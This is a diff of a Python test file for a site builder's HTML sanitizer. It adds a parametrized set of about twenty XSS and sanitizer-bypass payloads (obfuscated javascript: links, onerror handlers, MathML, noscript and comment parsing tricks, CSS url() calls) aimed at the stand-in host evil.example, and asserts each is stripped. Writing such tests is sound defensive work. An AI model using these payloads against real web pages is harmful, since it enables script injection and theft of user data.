@@ -268,11 +268,72 @@ def test_tables_say_what_heads_are_and_that_nothing_is_in_them(built):
     assert empty.tbody.get_text(strip=True) == "no rows"
 
 
-def test_what_runs_or_loads_in_an_output_is_taken_out():
-    output = ('<script src="https://example.org/a.js"></script><iframe src="https://example.org"></iframe>'
-              '<button onclick="go()">x</button><p onmouseover="go()" class="kept">text</p>')  # fmt: skip
-    piece = site.pages.text_piece(f"<div>{output}</div>", lambda address: None)
-    assert '<p class="kept">text</p>' in piece.body and "example" not in piece.body and "go()" not in piece.body
+OUTSIDE = {
+    "script": '<script src="//evil.example/a.js">steal()</script>',
+    "frame": '<iframe src="https://evil.example"></iframe><object data="//evil.example/a"></object>',
+    "listener": '<button onclick="steal()">x</button><p onmouseover="steal()">x</p><details ontoggle="steal()" open>',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "base": '<base href="https://evil.example/">',
+    "style": '<style>@import "//evil.example/a.css"; p { background: url(//evil.example/a.png) }</style>',
+    "style of a table": '<style>#T_1 { background: url("//evil.example/a.png"); width: image-set("evil.example/b") }'
+                        " #T_1, body { color: evil.example }</style>",
+    "style of an element": '<p style="background:url(https:evil.example/a); position: fixed">x</p>',
+    "style, escaped": '<p style="background: u\\72l(//evil.example/a); background: URL(&#47;/evil.example/a)">x</p>',
+    "pictures": '<img srcset="//evil.example/a 2x"><picture><source srcset="//evil.example/a"></picture>',
+    "picture": '<img src="https://evil.example/a.png"><img src="\\\\evil.example\\a"><img src=" //evil.example/a">',
+    "drawing in an address": '<img src="data:image/svg+xml,<svg xmlns=evil.example onload=steal()/>">',
+    "field": '<form action="//evil.example"><input type="image" src="//evil.example/a"><input name="evil.example">',
+    "old attribute": '<table background="//evil.example/a"><tr><td background="//evil.example/a">x</td></tr></table>',
+    "media": '<video poster="//evil.example/a"><track src="//evil.example/b"></video><embed src="//evil.example/a">',
+    "SVG": '<svg><image href="//evil.example/a"/><use xlink:href="//evil.example/b"/><script>steal()</script></svg>',
+    "link": '<a xlink:href="javascript:steal()" ping="//evil.example">x</a><a href="JAVA&#115;cript:steal()">x</a>',
+    "link with blanks": '<a href=" java\tscript:steal()">x</a><a href="data:text/html,<script>steal()</script>">x</a>',
+    "MathML": "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
+    "never closed": '<noscript><p title="</noscript><img src=x onerror=steal()>">x',
+    "comment": "<!--><img src=x onerror=steal()> evil.example -->",
+}
+
+
+@pytest.mark.parametrize("name", OUTSIDE)
+def test_what_runs_leads_away_or_asks_the_network_is_taken_out_of_an_output(name):
+    from bs4 import BeautifulSoup
+
+    piece = site.pages.text_piece(f"<div>before {OUTSIDE[name]}</div>\n\nafter", lambda address: None)
+    soup = BeautifulSoup(piece.body, "html.parser")
+    shown = [str(element.attrs) for element in soup.find_all(True)] + [style.get_text() for style in soup("style")]
+    assert not re.search("evil|steal", " ".join(shown)), piece.body
+    assert not soup(["script", "svg", "iframe", "meta", "base", "form", "picture", "template"])
+    assert soup.get_text().strip().startswith("before") and soup("p")[-1].get_text() == "after"
+
+
+def test_unclosed_elements_of_an_output_end_with_it(home, tmp_path):
+    def change(notebook):
+        torn = ("</div></div></div><b><table><tr><td>1", "<select>", "<details><summary>")
+        notebook.cells[5].outputs = [result("html", html) for html in torn]
+
+    change_theme(home, 1, change)
+    assert site.main(["--home", str(home), "--out", str(tmp_path / "site")]) == 0
+    page = soup_of(tmp_path / "site" / "pneumonia" / "theme1_data_analysis.html")
+    assert page.find("h2", string="2 · Six pools").find_parent(["table", "details"]) is None
+    cells = page.select("article .cell")
+    assert len(cells) == 7 and all(cell.parent is page.article for cell in cells)
+
+
+def test_tables_of_pandas_keep_their_colours_folds_their_state_and_lists_their_ticks():
+    import pandas as pd
+
+    frame = pd.DataFrame({"a": [1.0, 3.0], "b": [2.0, 4.0]})
+    styled = frame.style.background_gradient(subset=["a"]).bar(subset=["b"]).set_caption("Scores")
+    styled = styled.set_table_styles([{"selector": "th", "props": "font-weight: bold"}])
+    own = '<details open><summary>More</summary>\n\n- [x] a\n- [ ] b\n\n</details>\n\n<p style="color: red">x</p>'
+    html = styled.to_html()
+    body = site.pages.text_piece(f"{html}\n\n{own}", lambda address: None).body
+    colours = re.findall(r"background-color: #\w+|linear-gradient\(.*?\)|font-weight: bold", html)
+    assert len(colours) > 4 and all(colour in body for colour in colours)
+    identity = re.search(r'id="(T_\w+_row0_col0)"', html)[1]
+    assert f"#{identity} {{" in body and f'id="{identity}"' in body and "<caption>Scores</caption>" in body
+    assert '<details open="">' in body and body.count('type="checkbox"') == 2 and body.count("checked") == 1
+    assert '<p style="color: red;">x</p>' in body
 
 
 def test_svg_of_an_output_is_not_taken_over(home, tmp_path):
